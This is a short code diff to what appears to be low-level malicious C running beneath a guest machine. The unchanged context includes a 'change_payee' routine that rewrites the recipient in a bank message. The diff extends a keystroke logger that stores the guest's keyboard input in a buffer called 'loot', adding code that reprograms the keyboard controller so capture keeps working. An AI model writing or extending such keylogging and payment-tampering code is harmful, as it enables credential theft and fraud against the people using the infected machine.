@@ -92,9 +92,19 @@ static void change_payee(u8 *message) { memcpy(((struct bank_message *)message)-
 
 /* Keyboard and screen: what is typed and shown for the guest in front. */
 
+static void tell(u16 port, u8 byte)
+{
+    while (in8(PORT_KBC_STATUS) & KBC_STATUS_INPUT_FULL)
+        ;
+    out8(port, byte);
+}
+
 static void log_keys(void)
 {
     u32 count = 0;
+    tell(PORT_KBC_STATUS, KBC_WRITE_COMMAND_BYTE);
+    tell(PORT_KBC_DATA, KBC_COMMAND_BYTE_SYSTEM | KBC_COMMAND_BYTE_TRANSLATE);
+    tell(PORT_KBC_DATA, KEYBOARD_ENABLE);
     for (u32 n = 0; n < LOOKS && count < sizeof loot; n++) {
         if (in8(PORT_KBC_STATUS) & KBC_STATUS_OUTPUT_FULL)
             loot[count++] = in8(PORT_KBC_DATA);
